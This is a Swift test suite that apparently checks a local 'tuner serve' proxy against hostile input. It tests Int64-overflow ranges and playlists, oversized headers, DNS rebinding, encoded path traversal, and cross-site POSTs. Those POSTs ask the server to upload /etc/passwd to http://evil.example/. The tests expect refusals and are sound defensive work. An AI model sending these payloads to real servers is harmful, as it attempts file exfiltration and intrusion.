import Foundation
import Testing
import TunerTesting

/// What strangers can send a running `tuner serve`, as the real binary answers it: numbers near
/// Int64's limits in headers, queries and origin playlists; requests a web page in the user's
/// browser could make; headers past every limit. Each gets its error status, and the server is
/// still there afterwards, with nothing fatal in its log.
@Suite struct HostileInputTests {
    static let max = "9223372036854775807"

    @Test func theServerAnswersHostileInputAndStaysUp() async throws {
        guard let tools = Tools.require(.curl) else { return }
        let curl = tools[.curl]
        let workspace = try Workspace()
        defer { workspace.remove() }
        let origin = try await TestOrigin.start()
        let served = workspace.file("served")
        try FileManager.default.createDirectory(atPath: served, withIntermediateDirectories: true)
        // A playlist whose numbers overflow any unchecked sum: byte ranges, a map range, sequence numbers.
        try Data(
            """
            #EXTM3U
            #EXT-X-VERSION:7
            #EXT-X-TARGETDURATION:4
            #EXT-X-MEDIA-SEQUENCE:\(Self.max)
            #EXT-X-DISCONTINUITY-SEQUENCE:\(Self.max)
            #EXT-X-MAP:URI="init.mp4",BYTERANGE="10@\(Self.max)"
            #EXTINF:4,
            #EXT-X-BYTERANGE:\(Self.max)@\(Self.max)
            seg.ts
            #EXTINF:4,
            #EXT-X-BYTERANGE:9223372036854775000@0
            seg.ts
            #EXTINF:4,
            #EXT-X-BYTERANGE:9223372036854775000
            seg.ts
            #EXT-X-DISCONTINUITY
            #EXTINF:4,
            ok.ts
            """.utf8
        ).write(to: URL(fileURLWithPath: served + "/hostile.m3u8"))
        try Data(repeating: 0x47, count: 4096).write(to: URL(fileURLWithPath: served + "/ok.ts"))
        try Data(repeating: 0x47, count: 4096).write(to: URL(fileURLWithPath: served + "/seg.ts"))
        origin.serveDirectory(served)

        let data = workspace.file("data")
        let server = try await TunerProcess.serve(data: data)
        let port = server.port
        func fetch(_ url: String, _ options: [String] = []) async throws -> CurlResponse {
            try await Curl.fetch(curl, url, options: ["--path-as-is"] + options)
        }

        // Byte ranges from a client near Int64.max.
        let file = try await TunerProcess.proxyURL(for: "\(origin.baseURL)/files/range.bin?size=1000", data: data)
        let whole = try await fetch(file, ["-H", "Range: bytes=0-\(Self.max)"])
        #expect(whole.status == 206 && whole.body.count == 1000, "\(whole.status)")
        #expect(whole.header("Content-Range") == "bytes 0-999/1000")
        #expect(try await fetch(file, ["-H", "Range: bytes=\(Self.max)-"]).status == 416)
        #expect(try await fetch(file, ["-H", "Range: bytes=\(Self.max)-\(Self.max)"]).status == 416)
        let suffix = try await fetch(file, ["-H", "Range: bytes=-\(Self.max)"])
        #expect(suffix.status == 206 && suffix.body.count == 1000)
        // Beyond Int64: the header is not a range at all, so the whole file comes back.
        #expect(try await fetch(file, ["-H", "Range: bytes=0-99999999999999999999999"]).status == 200)

        // Origin numbers: a lying Content-Length, a body that ignores Range.
        let lying = try await TunerProcess.proxyURL(
            for: "\(origin.baseURL)/files/lying.bin?size=5000&badlength=-4000", data: data)
        _ = try await fetch(lying)
        let ignoring = try await TunerProcess.proxyURL(
            for: "\(origin.baseURL)/files/norange.bin?size=300000&norange=1", data: data)
        let ranged = try await fetch(ignoring, ["-H", "Range: bytes=200000-200099"])
        #expect(
            ranged.status == 206
                && ranged.body == Array(TestOrigin.content(name: "norange.bin", range: 200_000..<200_100)))

        // The hostile playlist, rewritten; its segments are pre-fetched with no user action.
        let playlist = try await TunerProcess.proxyURL(for: "\(origin.baseURL)/static/hostile.m3u8", data: data)
        let rewritten = try await fetch(playlist)
        #expect(rewritten.status == 200, "\(String(decoding: rewritten.body, as: UTF8.self))")
        let text = String(decoding: rewritten.body, as: UTF8.self)
        #expect(text.contains("/stream/") && !text.contains(origin.baseURL), "\(text)")
        for _ in 0..<100 where origin.requests(path: "/static/ok.ts") == 0 {
            try await Task.sleep(for: .milliseconds(50))
        }
        #expect(origin.requests(path: "/static/ok.ts") > 0, "the segment after the hostile ones is pre-fetched")

        // Query numbers.
        let api = server.baseURL + "/api/v1"
        for path in ["/guide?from=\(Self.max)", "/guide?to=-\(Self.max)", "/guide/now?at=\(Self.max)"] {
            #expect(try await fetch(api + path).status == 400, "\(path)")
        }

        // What any web page the user opens could send to 127.0.0.1.
        let plainText = try await fetch(
            api + "/transfers",
            [
                "-X", "POST", "-H", "Content-Type: text/plain",
                "--data",
                #"{"url":"/etc/passwd","kind":"upload-plain","properties":{"destinationURL":"http://evil.example/"}}"#,
            ])
        #expect(plainText.status == 415)
        let foreign = try await fetch(
            api + "/transfers",
            [
                "-X", "POST", "-H", "Content-Type: application/json", "-H", "Origin: http://evil.example",
                "--data",
                #"{"url":"/etc/passwd","kind":"upload-plain","properties":{"destinationURL":"http://evil.example/"}}"#,
            ])
        #expect(foreign.status == 403)
        let outsideFiles = try await fetch(
            api + "/transfers",
            [
                "-X", "POST", "-H", "Content-Type: application/json",
                "--data",
                #"{"url":"/etc/passwd","kind":"upload-plain","properties":{"destinationURL":"\#(origin.baseURL)/sink/x"}}"#,
            ])
        #expect(outsideFiles.status == 403)
        #expect(origin.requests(path: "/sink/x") == 0)
        let rebinding = try await RawHTTP.get(port: port, target: "/api/v1/sources", host: "attacker.example")
        #expect(rebinding.status == 421)
        let traversal = try await RawHTTP.get(port: port, target: "/stream/..%2f..%2fapi/v1/sources")
        #expect(traversal.status == 400)

        // Headers past every limit: refused, connection closed, nothing else disturbed.
        let many = try await RawHTTP.get(
            port: port, target: "/api/v1/health", headers: (0..<500).map { "X-Filler-\($0): x" })
        #expect(many.status == 400)
        let huge = try await RawHTTP.get(
            port: port, target: "/api/v1/health", headers: ["X-Big: " + String(repeating: "a", count: 1 << 20)])
        #expect(huge.status == 400 || huge.status == 431 || huge.status == 0)

        // Still up, and nothing fatal happened on the way.
        #expect(try await fetch(api + "/health").status == 200)
        #expect(server.isRunning)
        #expect(!server.log.contains("Fatal error"), "\(server.log)")
        await server.stop()
        try await origin.shutdown()
    }
}
